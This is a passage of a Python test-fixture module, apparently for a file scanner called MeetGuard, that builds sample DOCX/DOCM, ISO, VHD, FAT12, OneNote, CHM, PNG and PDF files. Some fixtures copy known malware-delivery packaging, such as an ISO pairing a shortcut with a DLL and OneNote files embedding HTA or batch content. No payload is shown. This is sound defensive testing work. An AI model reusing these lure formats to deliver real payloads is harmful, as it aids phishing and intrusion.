        else "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    )
    bin_default = (
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        if macro else ""
    )
    content_types = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="{_CT}">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f"{bin_default}"
        f'<Override PartName="/word/document.xml" ContentType="{main_type}"/></Types>'
    )
    rels = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{_PR}">'
        f'<Relationship Id="rId1" Type="{_R}/officeDocument" Target="word/document.xml"/>'
        "</Relationships>"
    )
    document = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="{_W}">'
        "<w:body><w:p><w:r><w:t>Meeting agenda</w:t></w:r></w:p></w:body></w:document>"
    )
    files = {
        "[Content_Types].xml": content_types.encode(),
        "_rels/.rels": rels.encode(),
        "word/document.xml": document.encode(),
    }
    if macro:
        files["word/_rels/document.xml.rels"] = (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<Relationships xmlns="{_PR}"><Relationship Id="rId1" '
            'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
            'Target="vbaProject.bin"/></Relationships>'
        ).encode()
        files["word/vbaProject.bin"] = vba_project_bin()
    return files


def docx() -> bytes:
    """A minimal WordprocessingML package without macros."""
    return _zip(_docx_files(macro=False))


def docm() -> bytes:
    """A minimal macro-enabled WordprocessingML package with `word/vbaProject.bin`."""
    return _zip(_docx_files(macro=True))


def zip_archive() -> bytes:
    """An ordinary zip of a PDF (not Office)."""
    return _zip({"agenda.pdf": pdf()})


# --------------------------------------------------------------------------------------------
# Disk images
# --------------------------------------------------------------------------------------------

_ISO_SECTOR = 2048


def _both16(value: int) -> bytes:
    return struct.pack("<H", value) + struct.pack(">H", value)


def _both32(value: int) -> bytes:
    return struct.pack("<I", value) + struct.pack(">I", value)


def _iso_dir_record(identifier: bytes, extent: int, size: int, *, directory: bool) -> bytes:
    date = bytes([124, 5, 1, 9, 0, 0, 28])  # 2024-05-01 09:00:00 UTC+7
    body = (
        bytes([0])
        + _both32(extent)
        + _both32(size)
        + date
        + bytes([2 if directory else 0, 0, 0])
        + _both16(1)
        + bytes([len(identifier)])
        + identifier
    )
    if len(identifier) % 2 == 0:
        body += b"\0"
    return bytes([len(body) + 1]) + body


def _iso_date(text: str) -> bytes:
    return text.encode("ascii") + bytes([28])


def iso9660(files: Mapping[str, bytes] | None = None, *, volume: str = "MEETING") -> bytes:
    """An ISO 9660 image (ECMA-119, level 1 names): 16 sectors of system area, a primary volume
    descriptor at 0x8000, the terminator, L and M path tables, the root directory and the files.

    >>> image = iso9660({"README.TXT": b"hello"})
    >>> image[0x8000:0x8007]
    b'\\x01CD001\\x01'
    """
    files = {"README.TXT": b"Meeting materials\r\n"} if files is None else files
    files = dict(sorted(files.items()))  # directory records are sorted by name (ECMA-119 9.3)
    root_sector, first_file_sector = 20, 21
    extents = []
    sector = first_file_sector
    for data in files.values():
        extents.append(sector)
        sector += max(1, -(-len(data) // _ISO_SECTOR))
    total_sectors = sector

    root = _iso_dir_record(b"\0", root_sector, _ISO_SECTOR, directory=True)
    root_dir = root + _iso_dir_record(b"\1", root_sector, _ISO_SECTOR, directory=True)
    for (name, data), extent in zip(files.items(), extents, strict=True):
        root_dir += _iso_dir_record(f"{name};1".encode("ascii"), extent, len(data),
                                    directory=False)
    if len(root_dir) > _ISO_SECTOR:
        raise ValueError("too many files for a one-sector root directory")

    path_l = bytes([1, 0]) + struct.pack("<I", root_sector) + struct.pack("<H", 1) + b"\0\0"
    path_m = bytes([1, 0]) + struct.pack(">I", root_sector) + struct.pack(">H", 1) + b"\0\0"

    created = _iso_date("2024050109000000")
    pvd = (
        b"\x01CD001\x01\x00"
        + b"".ljust(32)  # system identifier
        + volume.encode("ascii").ljust(32)
        + bytes(8)
        + _both32(total_sectors)
        + bytes(32)
        + _both16(1) + _both16(1) + _both16(_ISO_SECTOR)
        + _both32(10)  # path table size
        + struct.pack("<I", 18) + struct.pack("<I", 0)
        + struct.pack(">I", 19) + struct.pack(">I", 0)
        + root
        + b"".ljust(128) * 4  # volume set, publisher, preparer, application
        + b"".ljust(37) * 3  # copyright, abstract, bibliographic files
        + created + created + b"0" * 16 + b"\0" + created
        + b"\x01\x00"
    ).ljust(_ISO_SECTOR, b"\0")
    terminator = b"\xffCD001\x01".ljust(_ISO_SECTOR, b"\0")

    image = bytearray(16 * _ISO_SECTOR)
    image += pvd + terminator
    image += path_l.ljust(_ISO_SECTOR, b"\0") + path_m.ljust(_ISO_SECTOR, b"\0")
    image += root_dir.ljust(_ISO_SECTOR, b"\0")
    for data in files.values():
        image += data.ljust(max(1, -(-len(data) // _ISO_SECTOR)) * _ISO_SECTOR, b"\0")
    return bytes(image)


def iso_with_lnk() -> bytes:
    """The classic lure container: a shortcut and a program side by side in an ISO."""
    return iso9660({"INVITE.LNK": lnk_cmd_unicode(), "DATA.DLL": pe()})


def iso_with_exe() -> bytes:
    return iso9660({"SETUP.EXE": pe()})


def udf_vrs() -> bytes:
    """An image holding only a UDF volume recognition sequence (ECMA-167 2/9.1) at sector 16."""
    image = bytearray(16 * _ISO_SECTOR)
    for ident in (b"BEA01", b"NSR02", b"TEA01"):
        image += (b"\0" + ident + b"\x01").ljust(_ISO_SECTOR, b"\0")
    return bytes(image)


def vhdx_header() -> bytes:
    """The first 64 KiB of a VHDX file: the file type identifier `vhdxfile` and its creator."""
    return (b"vhdxfile" + "MeetGuard tests".encode("utf-16-le")).ljust(65536, b"\0")


def vhd_fixed(size: int = 64 * 1024) -> bytes:
    """A fixed VHD: raw disk data followed by the 512-byte `conectix` footer (with checksum)."""

    def footer(checksum: int) -> bytes:
        return struct.pack(
            ">8sIIQI4sI4sQQIII16sB",
            b"conectix", 2, 0x00010000, 0xFFFFFFFFFFFFFFFF, 0, b"mgtt", 0x000A0000, b"Wi2k",
            size, size, 0, 2, checksum, uuid.UUID(int=0x4D47).bytes, 0,
        ).ljust(512, b"\0")

    checksum = ~sum(footer(0)) & 0xFFFFFFFF
    return bytes(size) + footer(checksum)


def fat12_image() -> bytes:
    """A 32 KiB FAT12 volume image (.img): boot sector with BIOS parameter block, two FATs, an
    empty root directory holding the volume label, and free data sectors."""
    sectors = 64
    boot = (
        b"\xeb\x3c\x90" + b"MSDOS5.0"
        + struct.pack("<HBHBHHBHHHII", 512, 1, 1, 2, 16, sectors, 0xF8, 1, 32, 2, 0, 0)
        + struct.pack("<BBBI11s8s", 0x80, 0, 0x29, 0x4D470001, b"MEETING    ", b"FAT12   ")
    ).ljust(510, b"\0") + b"\x55\xaa"
    fat = b"\xf8\xff\xff".ljust(512, b"\0")
    label = struct.pack("<11sB10sHHHHI", b"MEETING    ", 0x08, bytes(10), 0, 0, 0, 0, 0)
    root = label.ljust(512, b"\0")
    return (boot + fat + fat + root).ljust(sectors * 512, b"\0")


# --------------------------------------------------------------------------------------------
# OneNote and CHM
# --------------------------------------------------------------------------------------------

ONENOTE_SECTION_GUID = uuid.UUID("7B5C52E4-D88C-4DA7-AEB1-5378D02996D3").bytes_le
FILE_DATA_STORE_HEADER = uuid.UUID("BDE316E7-2665-4511-A4C4-8D4D0B7A9EAC").bytes_le
FILE_DATA_STORE_FOOTER = uuid.UUID("71FBA722-0F79-4A0B-BB13-899256426B24").bytes_le


def onenote(embedded: bytes) -> bytes:
    """A OneNote section header (file type GUID, header area zero-filled to 1 KiB) followed by
    one FileDataStoreObject ([MS-ONESTORE] 2.6.13) holding `embedded`."""
    header = ONENOTE_SECTION_GUID.ljust(1024, b"\0")
    padding = b"\0" * (-len(embedded) % 8)
    store = (
        FILE_DATA_STORE_HEADER
        + struct.pack("<QIQ", len(embedded), 0, 0)
        + embedded + padding
        + FILE_DATA_STORE_FOOTER
    )
    return header + store


def onenote_with_hta() -> bytes:
    return onenote(hta())


def onenote_with_batch() -> bytes:
    return onenote(batch())


def onenote_with_png() -> bytes:
    return onenote(png())


def chm_header() -> bytes:
    """The ITSF header that starts a compiled HTML help file (version 3)."""
    return (
        struct.pack("<4sIIIII", b"ITSF", 3, 0x60, 1, 0x12345678, 0x409)
        + uuid.UUID("7C01FD10-7BAA-11D0-9E0C-00A0C922E6EC").bytes_le
        + uuid.UUID("7C01FD11-7BAA-11D0-9E0C-00A0C922E6EC").bytes_le
    ).ljust(4096, b"\0")


# --------------------------------------------------------------------------------------------
# Clean documents and images
# --------------------------------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png() -> bytes:
    """A 1x1 white RGB PNG."""
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
        + _png_chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff"))
        + _png_chunk(b"IEND", b"")
    )


def pdf() -> bytes:
    """A one-page PDF with a correct cross-reference table."""
    content = b"BT /F1 24 Tf 72 720 Td (Meeting agenda) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, xref,
    )
    return bytes(out)
